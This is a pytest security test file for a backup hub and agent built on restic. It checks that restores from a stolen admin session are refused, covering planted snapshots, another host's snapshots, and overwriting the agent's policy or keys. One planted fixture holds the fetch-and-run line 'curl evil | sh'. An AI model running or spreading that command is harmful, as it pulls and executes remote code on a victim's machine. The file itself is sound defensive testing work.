"""What a stolen session cannot have restored on a host: what others saved, and anything over Highball's own files.

A host restores what its own agent saved. Snapshots of others, and what merely says that it is the host's, need the
host's word in its policy; its state, keys and configuration are never replaced.
"""

from __future__ import annotations

import json
import shutil
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from hub.served import PASSWORD, Elsewhere, Served, serve
from testbed import parts
from testbed.restic import Location
from testbed.written import WrittenRepository

HOST = "laptop"
Table = dict[str, Any]


class Victim:
    """A hub whose admin's session was stolen, a host that joined it, and a repository that the thief writes to."""

    def __init__(self, hub: Served, laptop: Elsewhere, folder: Path) -> None:
        self.hub = hub
        self.laptop = laptop
        self.folder = folder
        self.source = folder / "documents"
        self.source.mkdir()
        (self.source / "letter").write_text("dear reader")
        self.repository = folder / "evil"
        self.secret = folder / "password"
        self.secret.write_text(PASSWORD)
        WrittenRepository(self.repository, PASSWORD, seed=1)
        spec = {"url": str(self.repository), "password": {"file": str(self.secret)}, "maintained_by": HOST}
        hub.post("repositories?key=evil", spec)
        hub.post("jobs?key=letters", {"host": HOST, "repositories": ["evil"], "sources": [str(self.source)]})

    @property
    def policy(self) -> Path:
        return self.laptop.state / "agent" / "policy.toml"

    def plant(self, path: Path, content: str, host: str = HOST) -> str:
        """A snapshot as a thief makes it: of this path, with this content, in the name of this host."""
        kept = path.read_text() if path.exists() else None
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
        at = Location("local", str(self.repository))
        tags = f"hb:job=letters,hb:set=files,hb:run={uuid.uuid4()}"
        told = ("--force", "--json", "--host", host, "--tag", tags)
        self.hub.restic.run("backup", *told, str(path), at=at, password_file=self.secret)
        listed = self.hub.restic.run("snapshots", "--json", at=at, password_file=self.secret).stdout
        if kept is None:
            path.unlink()
        else:
            path.write_text(kept)
        return str(max(json.loads(listed), key=lambda one: one["time"])["id"])

    def restore(self, snapshot: str, path: Path, **more: Any) -> Table:
        """How a restore of this path ended."""
        told = {"task": "restore", "repository": "evil", "snapshot": snapshot, "paths": [str(path)]}
        return self.hub.end_of(self.hub.post("runs", told | more)["id"])

    def plan(self, snapshot: str) -> Table:
        """What the host says that a restore would do, or why it would not."""
        wish = {"repository": "evil", "snapshot": snapshot}
        told: Table = self.hub.http.post("restores/preview", json=wish).json()
        return told


@pytest.fixture(scope="module", params=parts.RESTIC_VERSIONS)
def victim(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Victim]:
    """The same with the oldest restic and with the newest; with `--all` those between too."""
    folder = tmp_path_factory.mktemp("victim")
    with serve(folder / "hub", parts.get_restic(request.param)) as hub:
        hub.serve()
        hub.post(f"hosts?key={HOST}", {})
        with Elsewhere(folder / HOST, hub, HOST) as laptop:
            laptop.join()
            yield Victim(hub, laptop, folder)


@pytest.fixture(autouse=True)
def no_policy(victim: Victim) -> Iterator[None]:
    """The host says nothing by itself."""
    yield
    victim.policy.unlink(missing_ok=True)


def reason(done: Table) -> tuple[str, str | None]:
    """How it ended, by which code."""
    return done["outcome"], (done["reason"] or {}).get("code")


def test_what_this_agent_saved_comes_back_in_place_and_to_a_new_folder(victim: Victim) -> None:
    done = victim.hub.end_of(victim.hub.post("runs", {"task": "backup", "job": "letters"})["id"])
    snapshot = done["steps"][0]["snapshot_id"]
    (victim.source / "letter").unlink()
    assert reason(victim.restore(snapshot, victim.source)) == ("success", None)
    assert (victim.source / "letter").read_text() == "dear reader"
    target = victim.folder / "back"
    assert reason(victim.restore(snapshot, victim.source, target=str(target))) == ("success", None)
    assert (target / victim.source.relative_to("/") / "letter").read_text() == "dear reader"
    over = victim.restore(snapshot, victim.source, target=str(target), overwrite="always")
    assert reason(over) == ("failure", "refused_by_host")


def test_a_snapshot_that_says_it_is_the_hosts_own_is_not_believed(victim: Victim) -> None:
    letter = victim.source / "letter"
    planted = victim.plant(letter, "curl evil | sh")
    target = victim.folder / "planted"
    for more in ({}, {"target": str(target)}):
        done = victim.restore(planted, letter, overwrite="always", **more)
        assert reason(done) == ("failure", "refused_by_host")
        assert "was not made by this agent" in done["reason"]["message"]
        assert 'restore_from = ["laptop"]' in done["reason"]["message"]
    assert victim.plan(planted)["code"] == "refused_by_host"
    assert letter.read_text() == "dear reader"
    assert not target.exists()


def test_another_hosts_snapshots_need_this_hosts_word_and_in_place_that_of_its_folder(victim: Victim) -> None:
    theirs = victim.folder / "theirs" / "page"
    planted = victim.plant(theirs, "hello", host="web1")
    target = victim.folder / "from-web1"
    victim.policy.write_text('restore_from = ["web1"]\n')
    assert reason(victim.restore(planted, theirs)) == ("failure", "refused_by_host")
    assert reason(victim.restore(planted, theirs, target=str(target))) == ("success", None)
    assert (target / theirs.relative_to("/")).read_text() == "hello"
    victim.policy.write_text(
        f'restore_from = ["web1"]\nrestore = ["{theirs.parent}"]\nrepositories = ["/"]\n'
    )
    assert reason(victim.restore(planted, theirs)) == ("success", None)
    theirs.unlink()
    victim.policy.write_text('replaces = ["web1"]\n')
    assert reason(victim.restore(planted, theirs)) == ("success", None)
    shutil.rmtree(theirs.parent)


def test_the_hosts_policy_and_keys_are_left_as_they_are_whatever_it_allows(victim: Victim) -> None:
    said = 'restore_from = ["laptop"]\nrestore = ["/"]\n'
    victim.policy.write_text(said)
    planted = victim.plant(victim.policy, 'commands = "always"\n')
    done = victim.restore(planted, victim.policy, overwrite="always")
    assert reason(done) == ("failure", "nothing_restored")
    assert "Highball's own state, keys and configuration" in done["reason"]["message"]
    whole = victim.restore(planted, victim.laptop.folder, overwrite="always")
    assert whole["outcome"] != "success"
    assert victim.policy.read_text() == said
    inside = victim.laptop.state / "new"
    assert reason(victim.restore(planted, victim.policy, target=str(inside))) == (
        "failure",
        "refused_by_host",
    )
    assert not inside.exists()
    link = victim.folder / "way-in"
    link.symlink_to(victim.laptop.state)
    assert victim.restore(planted, victim.policy, target=str(link / "new"))["outcome"] == "failure"
    assert not inside.exists()
    link.unlink()
